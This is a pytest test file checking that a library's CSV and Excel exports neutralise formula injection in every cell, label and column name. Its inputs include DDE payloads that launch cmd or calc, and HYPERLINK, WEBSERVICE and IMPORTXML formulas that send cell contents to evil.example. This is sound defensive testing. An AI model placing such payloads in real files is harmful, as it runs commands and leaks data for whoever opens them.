"""Files for spreadsheets, from every table of ours and with every text in every column: no cell is a formula."""

from __future__ import annotations

import csv
import io
import json
import re
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pandas as pd
import pytest

from fusion_nb import UserError
from fusion_nb.core import Ref
from fusion_nb.journal.run_rows import RunRow
from fusion_nb.views import spreadsheet_files
from fusion_nb.views.dataframes import frame, models_frame, runs_frame
from tests import states
from tests.attacks import CONTROLS, VECTORS, WRITTEN
from tests.test_accessor import acts

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BEFORE = ("", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\ufeff", "\u200b", "'", '"', "\x00", "\x1b", "\x7f")
CALLS = ("cmd|' /C calc'!A0", 'DDE("cmd";"/C calc";"x")', 'HYPERLINK("https://evil.example/?"&A1,"x")', 'WEBSERVICE("https://evil.example")',
    "1+1", 'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")', "SUM(1+1)*cmd|' /C calc'!A0", "msexcel|'\\..\\..\\cmd.exe /c calc'!A0", "rundll32|'x'!A")  # fmt: skip


def texts() -> list[str]:
    made = [f"{before}{sign}{call}" for before in BEFORE for sign in SIGNS for call in CALLS]
    lists = []
    if VECTORS.is_dir():
        lists = [
            *(VECTORS / "csv-payloads.txt").read_text(encoding="utf-8").splitlines(),
            *json.loads((VECTORS / "blns.json").read_text(encoding="utf-8")),
        ]
    return [*made, *lists, *CONTROLS, *WRITTEN]


def all_tables() -> dict[str, pd.DataFrame]:
    """All of our tables with each of the texts in every column that holds words."""
    models = [SimpleNamespace(ref=Ref("acme", t), name=t, context=1, modalities=(t,), prompt_usd_per_mtok=Decimal(1), completion_usd_per_mtok=None, source=t, created=t, alias=t) for t in texts()]  # fmt: skip
    past = [RunRow(t, "2026-03-01T10:15:00+00:00", t, t, (t,), t, t, Decimal(1), of=t) for t in texts()]
    return {
        "calls": pd.concat([frame(states.hostile(text)) for text in texts()[::7]], ignore_index=True),
        "runs": runs_frame(past),
        "models": models_frame(models).assign(raw=pd.Series(texts(), dtype=object)),
    }


@pytest.fixture(scope="module")
def written() -> dict[str, pd.DataFrame]:
    return all_tables()


@pytest.mark.parametrize("table", ["calls", "runs", "models"])
def test_no_table_has_a_formula_in_csv(written: dict[str, pd.DataFrame], table: str) -> None:
    """No cell of prompt, model, error or text is a formula; cut at semicolons or tabs instead, none calls anything."""
    df = written[table]
    text = df.fusion.to_csv()
    assert len(list(csv.reader(io.StringIO(text, newline="")))) == len(df) + 1
    for separator in ",;\t":
        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
        # A list's `- item` is left as it is inside of a text: at worst it is a sum.
        assert [cell for cell in cells if acts(cell) and (separator == "," or cell.lstrip()[0] not in "+-＋－")] == []
        assert [
            cell for cell in cells if acts(cell) and re.search(r"[(|!]", cell.partition("\n")[0].partition('",')[0])
        ] == []


@pytest.mark.parametrize("engine", ["xlsxwriter", "openpyxl"])
@pytest.mark.parametrize("table", ["calls", "runs", "models"])
def test_no_table_has_a_formula_in_excel(
    written: dict[str, pd.DataFrame], table: str, engine: str, tmp_path: Path
) -> None:
    """Opened again, every cell is a text, a number, a date or empty; none a formula, none a link."""
    df = written[table]
    path = tmp_path / "out.xlsx"
    df.fusion.to_excel(path, engine=engine)
    cells = [cell for row in openpyxl.load_workbook(path)["fusion"].iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "b", "d", "inlineStr"}
    assert [cell for cell in cells if cell.hyperlink] == []
    assert [
        cell.value for cell in cells if isinstance(cell.value, str) and acts(cell.value) and not cell.quotePrefix
    ] == []


def test_excel_reads_back_what_was_written(tmp_path: Path) -> None:
    """A text that looks like a formula comes back to the letter from Excel; from CSV behind an apostrophe; from Parquet as it is."""
    script = states.Script()
    script.reply(states.CLAUDE, "=1+1")
    script.reply(states.GEMINI, "two;=lines\n- and a list")
    df = frame(script.close())
    df.fusion.to_excel(tmp_path / "out.xlsx")
    assert list(pd.read_excel(tmp_path / "out.xlsx").text) == list(df.text)
    assert list(pd.read_csv(io.StringIO(df.fusion.to_csv())).text) == ["'=1+1", "two;'=lines\n- and a list"]
    df.to_parquet(tmp_path / "out.parquet")
    assert list(pd.read_parquet(tmp_path / "out.parquet").text) == list(df.text)


def test_tables_without_calls_say_so() -> None:
    """`runs().fusion.cost()` is a sentence, not a traceback of ours."""
    with pytest.raises(UserError, match="no calls"):
        runs_frame([RunRow("r", "2026-03-01T10:15:00+00:00")]).fusion.cost()


LINK = '=HYPERLINK("http://evil.example/?"&A1)'
CUTS = {sep: [f"a{sep}{blank}={call}" for blank in ("", " ", '"', "'") for call in CALLS] for sep in ",;|\t:^ "}


def calls(*texts: str) -> pd.DataFrame:
    rows = {
        "run": "r",
        "call": range(len(texts)),
        "role": "candidate",
        "label": [f"@{t}" for t in texts],
        "model": list(texts),
        "cost_usd": 1.0,
        "text": list(texts),
    }
    return pd.DataFrame(rows)


def cells_of(text: str) -> list[str]:
    """Every cell that a spreadsheet could find in a file, at whatever it cuts."""
    return [cell for sep in ",;|\t" for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep) for cell in row]


def shapes(df: pd.DataFrame) -> dict[str, pd.DataFrame]:
    """The same texts as labels of rows and of columns, on one level and on several, and as names of levels."""
    return {
        "index": df.set_index("text"),
        "levels": df.set_index(["model", "text", "label"]),
        "columns": df.pivot_table(index="run", columns=["text", "label"], values="cost_usd"),
        "one level of columns": df.pivot_table(index="run", columns="text", values="cost_usd"),
        "names": df.set_index(["model", "call"]).rename_axis(index=[LINK, "call"], columns=LINK),
        "category": df.astype({"text": "category", "model": "category"}).set_index("model"),
        "lists": df.assign(text=[[t, t] for t in df["text"]], model=[{"a": t} for t in df["model"]]),
    }


@pytest.mark.parametrize("shape", shapes(calls("x", "y")))
def test_labels_are_texts_too(shape: str, tmp_path: Path) -> None:
    """Texts in an index of several levels, in columns and in names are as harmless as in cells, in CSV and in Excel."""
    df = shapes(calls(LINK, "+1|x!A", "@SUM(1)", "plain"))[shape]
    safe, _ = (
        spreadsheet_files.to_csv(df, index=True),
        spreadsheet_files.to_csv(df, index=True, columns=[df.columns[-1]]),
    )
    assert [cell for cell in cells_of(str(safe)) if acts(cell)] == []
    for engine in ("xlsxwriter", "openpyxl"):
        spreadsheet_files.to_excel(df, tmp_path / "out.xlsx", pd.ExcelWriter, engine=engine, index=True)
        sheet = [cell for row in openpyxl.load_workbook(tmp_path / "out.xlsx")["fusion"].iter_rows() for cell in row]
        texts = [cell for cell in sheet if isinstance(cell.value, str) and acts(cell.value)]
        assert [cell.value for cell in texts if cell.data_type == "f" or not cell.quotePrefix] == []
        assert texts or shape == "lists"


@pytest.mark.parametrize("sep", CUTS)
def test_a_text_is_harmless_wherever_it_is_cut(sep: str) -> None:
    """Written with one separator and opened with another, no part of a text is a formula; plain prose is left alone."""
    for texts in CUTS.values():
        text = str(calls(*texts).fusion.to_csv(sep=sep))
        cells = [
            *cells_of(text),
            *(cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep) for cell in row),
        ]
        assert [cell for cell in cells if acts(cell) and cell.lstrip(" \"'")[:1] in "=@"] == []
    prose = "Rayleigh, 1871; mail a@b.c | 5 - 3 = 2, so: - yes\n- item, -5 degrees"
    assert spreadsheet_files.csv_text(prose, sep) == prose or sep in " :"


@pytest.mark.parametrize(
    "options",
    [{"quotechar": "'"}, {"quoting": csv.QUOTE_NONE, "escapechar": "\\"}, {"doublequote": False, "escapechar": "\\"}],
)
def test_texts_stay_in_quotes(options: dict[str, object]) -> None:
    """Options that would leave a text without its quotes are refused with what to do instead; the others are taken."""
    with pytest.raises(UserError, match=r"take DataFrame\.to_csv"):
        calls(LINK).fusion.to_csv(**options)
    assert calls(LINK).fusion.to_csv(quoting=csv.QUOTE_MINIMAL, quotechar='"').count("\n") == 2


@pytest.mark.parametrize("engine", ["xlsxwriter", "openpyxl"])
def test_columns_that_were_left_out_stay_out(engine: str, tmp_path: Path) -> None:
    """`columns=` decides what is in the file, however its texts begin, beside an index and away from the corner too."""
    df = calls(LINK, "+1").assign(secret=LINK)
    for options in ({}, {"index": True}, {"startrow": 3, "startcol": 2}, {"header": False}):
        df.fusion.to_excel(tmp_path / "out.xlsx", engine=engine, columns=["run", "text"], **options)
        values = [
            [c.value for c in row if c.value is not None]
            for row in openpyxl.load_workbook(tmp_path / "out.xlsx")["fusion"].iter_rows()
        ]
        rows = [row for row in values if row][0 if options.get("header") is False else 1 :]
        assert [row[-2:] for row in rows] == [["r", LINK], ["r", "+1"]]
    assert df.fusion.to_csv(columns=["run"]).splitlines() == ['"run"', '"r"', '"r"']
